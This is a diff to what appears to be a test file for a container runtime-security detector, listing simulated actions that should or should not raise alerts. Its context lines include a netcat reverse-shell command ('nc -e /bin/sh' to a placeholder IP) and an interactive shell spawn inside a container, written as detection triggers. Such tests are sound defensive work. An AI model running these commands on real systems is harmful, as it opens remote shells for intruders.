@@ -34,7 +34,7 @@ ACTIONS = [
     Action("Terminal shell in container", "spawn('bash', '-i')", name="runc", where=CONTAINER, tty=True,
            fields={"proc.name": "bash", "proc.pname": "runc"}),
     Action("Contact K8S API Server From Container",
-           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 443))", where=CONTAINER,
+           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 443))", where=CONTAINER, late=True,
            fields={"fd.rport": 443, "proc.name": "act"}),
     Action("Netcat Remote Code Execution in Container", "spawn('nc', '-e', '/bin/sh', '192.0.2.1')", where=CONTAINER,
            fields={"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 192.0.2.1"}),
@@ -234,5 +234,5 @@ QUIET = [
     Action("Create Symlink Over Sensitive Files", "os.symlink('/etc/hostname', '/tmp/x')"),
     Action("Netcat Remote Code Execution in Container", "spawn('nc', '-l', '80')", where=CONTAINER),
     Action("Unexpected UDP Traffic", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 53))"),
-    Action("Clear Log Activities", "make('/var/log/syslog'); opened('/var/log/syslog', os.O_WRONLY | os.O_APPEND)"),
+    Action("Clear Log Activities", "opened('/var/log/new', os.O_WRONLY | os.O_CREAT | os.O_APPEND)"),
 ]
